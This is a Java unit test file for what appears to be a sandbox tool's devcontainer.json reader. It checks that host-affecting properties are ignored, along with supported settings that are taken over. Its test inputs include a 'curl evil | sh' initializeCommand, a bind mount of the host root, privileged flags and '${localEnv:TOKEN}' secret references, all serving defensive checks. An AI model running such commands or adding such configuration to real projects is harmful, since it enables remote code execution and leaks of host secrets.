package dev.belljar.agent.environment;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.belljar.agent.image.ImageNames;
import dev.belljar.contract.environment.Environment;
import dev.belljar.contract.environment.Environment.EnvironmentLimits;
import dev.belljar.contract.environment.Environment.EnvironmentVariable;
import dev.belljar.contract.environment.Environment.ProfileVersion;
import dev.belljar.contract.environment.EnvironmentProfile;
import dev.belljar.contract.text.VisibleText;
import dev.belljar.testing.property.ForAll;
import dev.belljar.testing.property.Generator;
import dev.belljar.testing.property.Generators;
import dev.belljar.testing.property.Property;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/// Tests what is taken over from a `devcontainer.json`, and that the rest is listed.
class DevcontainerReaderTest {
    private static final String FILE = ".devcontainer/devcontainer.json";

    private static ProposedEnvironment read(String json) throws EnvironmentException {
        return DevcontainerReader.read(FILE, json, ImageNames.NONE);
    }

    @Test
    void whatAnEnvironmentCanExpressIsTakenOver() throws Exception {
        ProposedEnvironment read = read("""
                // comments and trailing commas are usual
                {
                    "name": "shop",
                    "postCreateCommand": "npm ci", /* after the others */
                    "onCreateCommand": ["git", "config", "user.name", "it's me"],
                    "updateContentCommand": {"a": "make deps", "b": ["make", "tools"]},
                    "features": {
                        "ghcr.io/devcontainers/features/node:1": {"version": "22"},
                        "ghcr.io/devcontainers/features/python:1": "3.12",
                        "ghcr.io/devcontainers/features/docker-outside-of-docker:1": {},
                    },
                    "forwardPorts": [3000, 6006],
                    "remoteEnv": {"NODE_ENV": "test"},
                    "hostRequirements": {"cpus": 4, "memory": "8G", "storage": "32G"},
                }
                """);
        assertThat(read.ignored()).isEmpty();
        assertThat(read.environment())
                .isEqualTo(new Environment(
                        List.of(EnvironmentProfile.PYTHON, EnvironmentProfile.NODE, EnvironmentProfile.DOCKER),
                        List.of(),
                        List.of("git config user.name 'it'\\''s me'", "make deps", "make tools", "npm ci"),
                        List.of(),
                        List.of(),
                        List.of(3000, 6006),
                        new EnvironmentLimits(8 << 10, 4, 32 << 10),
                        List.of(),
                        List.of(
                                new ProfileVersion(EnvironmentProfile.PYTHON, "3.12"),
                                new ProfileVersion(EnvironmentProfile.NODE, "22")),
                        List.of(new EnvironmentVariable("NODE_ENV", "test"))));
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '#',
            quoteCharacter = '`',
            value = {
                "\"initializeCommand\": \"curl evil | sh\" # initializeCommand: would run on this computer",
                "\"mounts\": [\"source=/,target=/host,type=bind\"] # mounts: would mount folders on this computer",
                "\"workspaceMount\": \"source=/,target=/w\" # workspaceMount: would mount a folder on this computer",
                "\"runArgs\": [\"--privileged\"]  # runArgs: options of a container engine",
                "\"privileged\": true              # privileged: an option of a container engine",
                "\"capAdd\": [\"SYS_ADMIN\"]       # capAdd: an option of a container engine",
                "\"securityOpt\": []               # securityOpt: an option of a container engine",
                "\"build\": {\"dockerfile\": \"D\"} # build: no image is built",
                "\"dockerComposeFile\": \"c.yml\"   # dockerComposeFile: use the profile docker, and start the services in the sandbox",
                "\"remoteUser\": \"root\"          # remoteUser: commands always run as the user agent",
                "\"postStartCommand\": \"npm start\" # postStartCommand: runs at each start, but setup commands run"
                        + " once",
                "\"customizations\": {}            # customizations: editor settings",
                "\"whatever\": 1                   # whatever: not known to Belljar",
                "\"image\": \"evil/node:22\"       # image evil/node:22: the sandbox starts from Belljar's guest image;"
                        + " import this one with `belljar image import` to start from it",
                "\"features\": {\"ghcr.io/evil/features/node:1\": {}} # feature ghcr.io/evil/features/node:1:"
                        + " Belljar has no matching profile",
                "\"features\": []                  # features: not an object",
                "\"forwardPorts\": [\"db:5432\"]    # forwardPorts db:5432: only the sandbox's own ports, from 1 to 65535, get an address",
                "\"forwardPorts\": [70000]         # forwardPorts 70000: only the sandbox's own ports, from 1 to 65535, get an address",
                "\"remoteEnv\": {\"T\": \"${localEnv:TOKEN}\"} # remoteEnv.T: values from this computer are never given to a sandbox, and other values are not known here",
                "\"containerEnv\": {\"T\": \"a${localEnv:HOME:x}\"} # containerEnv.T: values from this computer are never given to a sandbox, and other values are not known here",
                "\"remoteEnv\": {\"A B\": \"x\"}    # remoteEnv.A B: expected the name of a variable, such as NODE_ENV, that does not begin with BELLJAR_",
                "\"remoteEnv\": {\"A\": 1}          # remoteEnv.A: not text",
                "\"remoteEnv\": \"A\"              # remoteEnv: not an object",
                "\"postCreateCommand\": 7          # postCreateCommand: not a command",
                "\"postCreateCommand\": [1]        # postCreateCommand: not a command",
                "\"postCreateCommand\": {\"a\": {}} # postCreateCommand: not a command",
                "\"postCreateCommand\": \"a\\nb\"   # postCreateCommand: expected a command on one line, of at most"
                        + " 4,096 characters, without invisible characters",
                "\"postCreateCommand\": \"echo ${localEnv:TOKEN}\" # postCreateCommand: values from this computer are never given to a sandbox, and other values are not known here",
                "\"postCreateCommand\": [\"cp\", \"${localWorkspaceFolder}/x\", \".\"] # postCreateCommand: values from this computer are never given to a sandbox, and other values are not known here",
                "\"hostRequirements\": {\"gpu\": true} # hostRequirements.gpu: not a limit of a machine",
                "\"hostRequirements\": {\"memory\": \"1k\"} # hostRequirements.memory: not a limit of a machine",
            })
    void whatCannotBeTakenOverIsListedAndHasNoEffect(String property, String line) throws Exception {
        ProposedEnvironment read = read("{" + property + "}");
        assertThat(read.ignored()).containsExactly(line);
        assertThat(read.environment()).isEqualTo(Environment.EMPTY);
    }

    @Test
    void theFolderOfTheProjectIsKnownAndVariablesOfTheShellStay() throws Exception {
        ProposedEnvironment read = read("""
                {
                    "postCreateCommand": "cd ${containerWorkspaceFolder} && ls ${HOME}",
                    "remoteEnv": {"A": "${containerWorkspaceFolder}/bin"}
                }
                """);
        assertThat(read.ignored()).isEmpty();
        assertThat(read.environment().setup()).containsExactly("cd /workspace && ls ${HOME}");
        assertThat(read.environment().variables()).containsExactly(new EnvironmentVariable("A", "/workspace/bin"));
    }

    @ParameterizedTest
    @CsvSource({
        "mcr.microsoft.com/devcontainers/typescript-node:1-22-bookworm, NODE, 22",
        "mcr.microsoft.com/devcontainers/python:3.12, PYTHON, 3.12",
        "mcr.microsoft.com/devcontainers/cpp:bookworm, BUILD,",
    })
    void aWellKnownImageHasAProfileAndIsListed(String image, EnvironmentProfile profile, String version)
            throws Exception {
        ProposedEnvironment read = read("{\"image\": \"" + image + "\"}");
        assertThat(read.environment().profiles()).containsExactly(profile);
        assertThat(read.environment().version(profile)).isEqualTo(version);
        assertThat(read.ignored()).singleElement().asString().contains("is proposed instead");
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {"[]|line 1", "{\"a\": 1, \"a\": 2}|line 1", "{\"a\"|line 1", "null|expected", "|", "{} {}|line 1"})
    void whatIsNotAnObjectIsRefused(String json, String message) {
        assertThatThrownBy(() -> read(json == null ? "" : json))
                .isInstanceOf(EnvironmentException.class)
                .hasMessageStartingWith(message == null ? "line 1" : message);
    }

    @Test
    void nestingAndListsAreBounded() throws Exception {
        assertThatThrownBy(() -> read("{\"a\": " + "[".repeat(5_000))).isInstanceOf(EnvironmentException.class);
        StringBuilder many = new StringBuilder("{");
        for (int i = 0; i < 500; i++) {
            many.append(i == 0 ? "" : ",").append("\"k").append(i).append("\": 1");
        }
        assertThat(read(many + "}").ignored()).hasSize(101).endsWith("more, not listed");
    }

    static Generator<String> documents() {
        Generator<String> values = Generators.oneOf(
                Generators.of(
                        "1",
                        "true",
                        "null",
                        "\"a\"",
                        "[3000]",
                        "[\"a\", 1]",
                        "{\"A\": \"b\"}",
                        "{\"A\": {}}",
                        "\"${x}\""),
                Generators.strings(0, 10));
        Generator<String> keys = Generators.of(
                "image",
                "features",
                "forwardPorts",
                "remoteEnv",
                "hostRequirements",
                "postCreateCommand",
                "mounts",
                "x");
        return choices ->
                "{" + String.join(",", choices.list(0, 6, c -> "\"" + keys.next(c) + "\":" + values.next(c))) + "}";
    }

    @Property(tries = 2_000)
    void anyTextIsRefusedOrRead(@ForAll("documents") String json) {
        try {
            ProposedEnvironment read = read(json);
            assertThat(read.ignored())
                    .allSatisfy(line -> assertThat(VisibleText.line(line)).isEqualTo(line));
            assertThat(EnvironmentItems.of(read.environment(), _ -> null, ImageNames.NONE))
                    .allSatisfy(
                            item -> assertThat(VisibleText.line(item.words())).isEqualTo(item.words()));
        } catch (EnvironmentException e) {
            assertThat(e.getMessage()).isNotBlank();
        }
    }
}
